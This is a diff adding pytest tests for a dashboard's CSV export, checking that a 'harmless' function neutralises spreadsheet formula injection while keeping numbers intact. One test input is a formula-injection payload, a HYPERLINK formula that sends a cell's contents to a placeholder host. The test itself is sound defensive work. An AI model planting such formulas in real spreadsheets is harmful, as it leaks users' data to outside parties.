@@ -5,7 +5,7 @@ import io
 
 import pytest
 
-from dashboard.spreadsheets import to_csv
+from dashboard.spreadsheets import harmless, to_csv
 from tests.dashboard.conftest import CLAIMS, claims
 
 
@@ -30,3 +30,28 @@ def test_the_csv_says_whose_claims_these_are_and_that_they_are_not_verified(spec
     told = dict(zip(header, first, strict=True))
     assert told["status"] == "claimed as printed; not independently verified"
     assert all(told[name] for name in ("claimed_by", "quote", "source_id", "qualifier", "date_basis"))
+
+
+def test_a_text_from_a_strangers_query_is_no_formula_and_numbers_stay_numbers():
+    texts = [
+        '=HYPERLINK("http://x.example/?"&A1,"open")',
+        "+1+1",
+        "-2+3",
+        "@SUM(1)",
+        "\t=1",
+        "\r=1",
+        "-",
+        "＝1+1",
+        ["=1", "b"],
+    ]
+    numbers = [-2, -2.5, 3, "-2.5", "+4", "-1e-3", None, True, "a=b", "“-”", ""]
+    row = {f"column {n}": cell for n, cell in enumerate([*texts, *numbers])} | {"=1+1": "x"}
+    made = harmless(row)
+    assert list(made)[-1] == "'=1+1"
+    cells = list(made.values())
+    assert cells[: len(texts)] == [["'=1", "b"] if isinstance(text, list) else f"'{text}" for text in texts]
+    assert cells[len(texts) : -1] == numbers
+
+
+def test_published_rows_are_given_as_they_are():
+    assert to_csv([{"passage": "- I. Heading", "count": -1}]).decode("utf-8-sig") == "passage,count\n- I. Heading,-1\n"
